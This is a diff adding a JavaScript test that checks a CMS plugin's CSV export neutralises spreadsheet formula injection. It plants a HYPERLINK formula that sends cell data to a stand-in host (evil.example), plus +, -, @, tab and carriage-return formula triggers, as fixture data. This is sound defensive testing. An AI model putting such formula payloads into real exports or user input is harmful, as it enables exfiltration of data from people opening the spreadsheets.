@@ -79,6 +79,28 @@ describe('the inbox exported as CSV (the import-export plugin’s download)', ()
     expect(all.text).not.toContain(reader.token)
   })
 
+  it('writes what visitors typed as text, never as a formula a spreadsheet would run', async () => {
+    const creator = await createUser({ role: 'admin' })
+    const payload = await testPayload()
+    const email = `${unique('formula').toLowerCase()}@example.test`
+    const hostile = {
+      name: '=HYPERLINK("https://evil.example/?"&A1,"Open")',
+      subject: '+SUM(1,2)',
+      message: '-2+3\nand a second line',
+    }
+    await payload.create({ collection: 'contact-messages', data: { ...hostile, email, status: 'new' }, depth: 0 })
+    for (const [field, value] of Object.entries({ '@cmd': '@SUM(A1)', tab: '\t=1+1', cr: '\r=1+1' })) {
+      await payload.create({ collection: 'book-suggestions', data: { title: `${unique(field)}`, author: value, reason: 'A reason long enough to be kept.', status: 'new' }, depth: 0 })
+    }
+    const res = await download(creator, { collectionSlug: 'contact-messages', where: { email: { equals: email } } })
+    expect(res.status, res.text).toBe(200)
+    const [row] = parseCsv(res.text)
+    expect(row).toMatchObject({ name: `'${hostile.name}`, subject: `'${hostile.subject}`, message: `'${hostile.message}`, email })
+    const books = parseCsv((await download(creator, { collectionSlug: 'book-suggestions', where: { author: { in: ['@SUM(A1)', '\t=1+1', '\r=1+1'] } } })).text)
+    // (The collection keeps a one-line field without its carriage return: "=1+1" is what is left.)
+    expect(books.map((b) => b.author).sort()).toEqual(["'=1+1", "'\t=1+1", "'@SUM(A1)"].sort())
+  })
+
   it('asking for the token, filtering or sorting on it, is refused (400), never a 200 or a broken answer', async () => {
     const creator = await createUser({ role: 'admin' })
     const reader = await subscriber()
